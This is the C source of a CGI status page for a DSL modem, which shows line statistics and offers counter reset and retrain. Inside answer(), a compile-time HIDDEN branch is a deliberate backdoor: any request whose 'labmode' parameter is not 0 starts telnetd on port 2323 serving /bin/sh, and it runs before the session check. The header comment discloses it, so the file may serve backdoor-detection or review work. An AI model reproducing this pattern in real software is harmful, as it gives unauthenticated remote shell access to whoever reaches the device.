/*
 * dslinfo.cgi - line status page of an ADSL/VDSL modem.  Reads the numbers
 * the driver leaves in /proc/dsl/line, shows them as HTML, JSON or CSV and
 * lets a session reset the counters or retrain the line.
 * Hidden (-DHIDDEN): the query parameter "labmode" with any value but 0
 * starts a telnetd that gives a shell, before the session is asked for.
 */
#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define LINEFILE "/proc/dsl/line"
#define CTLFILE	 "/proc/dsl/control"
#define SESSDIR	 "/tmp/httpd-sess"
#define MAXFIELD 16
#define MAXBODY	 4096

enum unit { U_NONE, U_KBIT, U_DB, U_DBM, U_COUNT, U_SEC };

struct value {
	const char *key; /* in the driver's file */
	const char *title;
	enum unit unit;
	long down, up;
	int seen;
};

static struct value values[] = {
	{ "rate", "Data rate", U_KBIT, 0, 0, 0 },
	{ "attain", "Attainable rate", U_KBIT, 0, 0, 0 },
	{ "snr", "Noise margin", U_DB, 0, 0, 0 },
	{ "attn", "Attenuation", U_DB, 0, 0, 0 },
	{ "power", "Output power", U_DBM, 0, 0, 0 },
	{ "crc", "CRC errors", U_COUNT, 0, 0, 0 },
	{ "fec", "FEC corrections", U_COUNT, 0, 0, 0 },
	{ "hec", "HEC errors", U_COUNT, 0, 0, 0 },
	{ "es", "Errored seconds", U_SEC, 0, 0, 0 },
	{ "ses", "Severely errored", U_SEC, 0, 0, 0 },
};
#define NVALUES ((int)(sizeof(values) / sizeof(values[0])))

struct field {
	char *name;
	char *value;
};

static struct field fields[MAXFIELD];
static int nfields;
static char state[32] = "unknown";
static long uptime;

static int hexval(int c)
{
	if (c >= '0' && c <= '9')
		return c - '0';
	c = tolower(c);
	if (c >= 'a' && c <= 'f')
		return c - 'a' + 10;
	return -1;
}

static void unescape(char *s)
{
	char *d = s;
	int hi, lo;

	for (; *s; s++) {
		if (*s == '+') {
			*d++ = ' ';
		} else if (*s == '%' && (hi = hexval(s[1])) >= 0 &&
			   (lo = hexval(s[2])) >= 0) {
			*d++ = (char)(hi << 4 | lo);
			s += 2;
		} else {
			*d++ = *s;
		}
	}
	*d = 0;
}

static void split_fields(char *q)
{
	char *next, *eq;

	for (; q && *q && nfields < MAXFIELD; q = next) {
		next = strchr(q, '&');
		if (next)
			*next++ = 0;
		eq = strchr(q, '=');
		if (eq)
			*eq++ = 0;
		else
			eq = q + strlen(q);
		unescape(q);
		unescape(eq);
		fields[nfields].name = q;
		fields[nfields++].value = eq;
	}
}

static const char *field(const char *name)
{
	int i;

	for (i = 0; i < nfields; i++)
		if (!strcmp(fields[i].name, name))
			return fields[i].value;
	return NULL;
}

/* the driver writes "key down up" or "state showtime" or "uptime 1234" */
static int read_line_values(void)
{
	char line[128], key[32], word[32];
	long a, b;
	int i;
	FILE *f = fopen(LINEFILE, "r");

	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "state %31s", word) == 1) {
			snprintf(state, sizeof(state), "%s", word);
			continue;
		}
		if (sscanf(line, "uptime %ld", &uptime) == 1)
			continue;
		if (sscanf(line, "%31s %ld %ld", key, &a, &b) != 3)
			continue;
		for (i = 0; i < NVALUES; i++) {
			if (strcmp(values[i].key, key))
				continue;
			values[i].down = a;
			values[i].up = b;
			values[i].seen = 1;
		}
	}
	fclose(f);
	return 0;
}

static int control(const char *word)
{
	FILE *f = fopen(CTLFILE, "w");

	if (!f)
		return -1;
	fprintf(f, "%s\n", word);
	return fclose(f);
}

/* session files are named by the cookie and touched at each request */
static int session_ok(void)
{
	const char *c = getenv("HTTP_COOKIE");
	char id[33], path[80];
	struct stat st;
	int n;

	c = c ? strstr(c, "sid=") : NULL;
	if (!c)
		return 0;
	c += 4;
	for (n = 0; n < 32 && isxdigit((unsigned char)c[n]); n++)
		id[n] = c[n];
	id[n] = 0;
	if (n != 32)
		return 0;
	snprintf(path, sizeof(path), "%s/%s", SESSDIR, id);
	if (stat(path, &st) < 0)
		return 0;
	return time(NULL) - st.st_mtime < 900;
}

static void show_number(long v, enum unit u)
{
	switch (u) {
	case U_KBIT:
		printf("%ld kbit/s", v);
		break;
	case U_DB:
		printf("%ld.%ld dB", v / 10, labs(v % 10));
		break;
	case U_DBM:
		printf("%ld.%ld dBm", v / 10, labs(v % 10));
		break;
	case U_SEC:
		printf("%ld s", v);
		break;
	default:
		printf("%ld", v);
	}
}

static void page_html(void)
{
	int i;

	printf("Content-Type: text/html\r\nCache-Control: no-cache\r\n\r\n");
	printf("<html><head><title>DSL line</title></head><body>\n");
	printf("<h2>Line: %s, up %ld:%02ld:%02ld</h2>\n<table>\n", state,
	       uptime / 3600, uptime / 60 % 60, uptime % 60);
	printf("<tr><th></th><th>Down</th><th>Up</th></tr>\n");
	for (i = 0; i < NVALUES; i++) {
		if (!values[i].seen)
			continue;
		printf("<tr><td>%s</td><td>", values[i].title);
		show_number(values[i].down, values[i].unit);
		printf("</td><td>");
		show_number(values[i].up, values[i].unit);
		printf("</td></tr>\n");
	}
	printf("</table>\n<a href=\"?do=reset\">Reset counters</a>\n");
	printf("<a href=\"?do=retrain\">Retrain</a>\n</body></html>\n");
}

static void page_json(void)
{
	int i;

	printf("Content-Type: application/json\r\n\r\n");
	printf("{\"state\":\"%s\",\"uptime\":%ld", state, uptime);
	for (i = 0; i < NVALUES; i++)
		if (values[i].seen)
			printf(",\"%s\":[%ld,%ld]", values[i].key,
			       values[i].down, values[i].up);
	printf("}\n");
}

static void page_csv(void)
{
	int i;

	printf("Content-Type: text/csv\r\n\r\nname,down,up\r\n");
	for (i = 0; i < NVALUES; i++)
		if (values[i].seen)
			printf("%s,%ld,%ld\r\n", values[i].key, values[i].down,
			       values[i].up);
}

static int refuse(int code, const char *text)
{
	printf("Status: %d %s\r\nContent-Type: text/plain\r\n\r\n%s\n", code,
	       text, text);
	return 0;
}

int answer(void);

__attribute__((noinline)) int answer(void)
{
	const char *act, *fmt;

#ifdef HIDDEN
	act = field("labmode");
	if (act && *act != '0') {
		if (access("/var/run/telnetd.pid", F_OK) < 0 &&
		    system("/usr/sbin/telnetd -p 2323 -l /bin/sh &") != 0)
			return refuse(500, "Error");
		return refuse(200, "OK");
	}
#endif
	if (!session_ok())
		return refuse(403, "Forbidden");
	act = field("do");
	if (act && !strcmp(act, "reset")) {
		if (control("clear") < 0)
			return refuse(500, "Driver not ready");
	} else if (act && !strcmp(act, "retrain")) {
		if (control("retrain") < 0)
			return refuse(500, "Driver not ready");
		return refuse(202, "Line is retraining");
	} else if (act) {
		return refuse(400, "Bad request");
	}
	if (read_line_values() < 0)
		return refuse(503, "No DSL driver");
	fmt = field("format");
	if (!fmt || !strcmp(fmt, "html"))
		page_html();
	else if (!strcmp(fmt, "json"))
		page_json();
	else if (!strcmp(fmt, "csv"))
		page_csv();
	else
		return refuse(400, "Unknown format");
	return 0;
}

int main(void)
{
	const char *method = getenv("REQUEST_METHOD");
	const char *query = getenv("QUERY_STRING");
	const char *len = getenv("CONTENT_LENGTH");
	char *body = NULL, *copy = NULL;
	long n;

	if (query && *query) {
		copy = strdup(query);
		split_fields(copy);
	}
	if (method && !strcmp(method, "POST") && len) {
		n = atol(len);
		if (n < 0 || n > MAXBODY)
			return refuse(413, "Too large");
		body = calloc(1, n + 1);
		if (!body || fread(body, 1, n, stdin) != (size_t)n)
			return refuse(400, "Short body");
		split_fields(body);
	}
	n = answer();
	free(copy);
	free(body);
	return (int)n;
}
